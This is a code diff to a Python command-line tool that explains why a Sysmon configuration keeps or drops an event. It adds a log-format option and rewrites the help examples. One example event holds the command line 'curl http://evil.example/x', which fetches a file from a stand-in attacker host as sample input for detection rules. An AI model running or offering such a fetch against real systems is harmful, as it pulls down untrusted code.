@@ -20,10 +20,10 @@ from pysmon.views.words import Line
 
 _EXAMPLES = """\b
 Examples:
-  pysmon explain config.xml '{"EventID": 1, "UtcTime": "2026-11-21 08:15:00.000", "Image": "/usr/bin/curl"}'
-  pysmon explain config.xml events.json --record 4711
+  pysmon explain config.xml '{"EventID": 1, "Image": "/usr/bin/curl", "CommandLine": "curl http://evil.example/x"}'
+  pysmon explain config.xml Sysmon.evtx --record 4711
   pysmon log --id 1 --last 1 --format json | pysmon explain config.xml -
-  pysmon explain --json config.xml Sysmon.evtx --record 4711 | jq .turns
+  pysmon explain --json config.xml events.json --record 4711 | jq .turns
 """
 _HANG = 14  # columns: what goes on stands below the conditions
 
@@ -32,16 +32,17 @@ _HANG = 14  # columns: what goes on stands below the conditions
 @click.argument("config")
 @click.argument("event")
 @click.option("--record", type=click.IntRange(min=0), metavar="N", help="The event with this EventRecordID of a log.")
+@click.option("--format", "form", metavar="SHAPE", help="The shape of the log; without it, it is found out.")
 @click.option("--json", "as_json", is_flag=True, help="Print one JSON document instead of text.")
 @click.option("--all", "whole", is_flag=True, help="Show every condition; otherwise rows of them are summed up.")
-def explain_command(config: str, event: str, record: int | None, as_json: bool, whole: bool) -> int:
+def explain_command(config: str, event: str, record: int | None, form: str | None, as_json: bool, whole: bool) -> int:
     """Explain why CONFIG keeps or drops an EVENT, without rights and without a sensor.
 
     Shown are the rules in the order in which the engine asks them, each with its line, what came of it, and which
     single condition would have turned the verdict round. EVENT is a JSON object, a log, or `-` for standard input; of a
     log with several events --record names the one.
     """
-    found = explain(Ruleset.compile(configured(config)), one_event(event, record).event)
+    found = explain(Ruleset.compile(configured(config)), one_event(event, record, form).event)
     if as_json:
         click.echo(msgspec.json.encode(_document(config, found)))
         return FINE
